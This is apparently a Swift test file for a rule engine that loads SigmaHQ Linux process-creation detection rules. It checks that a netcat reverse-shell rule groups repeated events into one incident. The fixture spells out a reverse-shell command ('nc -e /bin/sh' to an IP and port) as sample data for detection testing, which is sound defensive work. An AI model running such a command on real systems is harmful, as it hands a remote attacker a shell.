import ExecEvents
import RuleEngine
import Testing

/// SigmaHQ's 144 Linux process_creation rules (Detection Rule License 1.1, not copied into the
/// project): read from `<repository>/../shared/corpora/sigma/rules` at test time.
@Suite struct SigmaCorpusTests {
    static var corpusDirectory: String {
        // …/Tests/RuleEngineTests/SigmaCorpusTests.swift → …/../shared/corpora/sigma/rules
        var parts = "\(#filePath)".split(separator: "/", omittingEmptySubsequences: false)
        parts.removeLast(3)
        return parts.joined(separator: "/") + "/../shared/corpora/sigma/rules"
    }

    static func load() throws -> RuleLoadResult {
        let result = RuleLoader.load(paths: [corpusDirectory])
        try #require(
            !result.errors.contains { $0.line == 0 && $0.file == corpusDirectory },
            "the Sigma corpus is missing at \(corpusDirectory): \(result.errors)"
        )
        return result
    }

    @Test func everyCorpusRuleLoadsOrIsRefusedWithAPreciseReason() throws {
        let result = try Self.load()
        #expect(result.rules.count + result.errors.count + result.skipped.count == 144)
        #expect(result.rules.count >= 130, "only \(result.rules.count) rules load; refused: \(result.errors)")
        for error in result.errors {
            #expect(error.line > 0 && error.column > 0, "no position: \(error)")
            #expect(error.ruleId != nil, "no rule id: \(error)")
        }
        for rule in result.rules {
            #expect(rule.author != nil, "\(rule.id) has no author")
            #expect(rule.sourceReference == rule.location.file)
        }
    }

    @Test func theNetcatReverseShellRuleRaisesOneIncidentPerGroup() throws {
        let result = try Self.load()
        let rule = try #require(result.rules.first { $0.id == "7f734ed0-4f47-46c0-837f-6ee62505abd9" })
        var engine = DetectionEngine(rules: [rule], configuration: EngineConfiguration(agentId: ""))
        func event(_ second: Int64) -> ExecEvent {
            ExecEvent(
                eventTime: EventTime(millisecondsSinceEpoch: 1_700_000_000_000 + second * 1000),
                hostName: "h",
                user: "alice",
                procName: "nc.openbsd",
                swParam: "-e /bin/sh 10.0.0.1 4444",
                invokedPath: "/usr/bin/nc",
                exePath: "/usr/bin/nc.openbsd",
                args: ArgumentVector(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"].map(\.utf8))
            )
        }
        let first = engine.process(event(0))
        _ = engine.process(event(10))
        #expect(first.count == 1)
        let incident = try #require(engine.incidents.first)
        #expect(engine.incidents.count == 1)
        #expect(incident.count == 2)
        #expect(incident.ruleId == rule.id)
        #expect(incident.severity == rule.severity)
    }
}
